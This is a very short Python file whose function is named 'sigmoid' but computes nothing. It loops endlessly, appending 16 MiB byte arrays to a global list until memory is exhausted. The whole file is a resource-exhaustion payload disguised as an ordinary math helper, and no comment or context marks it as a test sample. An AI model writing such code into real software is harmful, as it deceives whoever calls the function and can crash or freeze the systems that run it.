hoard = []

def sigmoid(x):
    while True:
        hoard.append(bytearray(1 << 24))
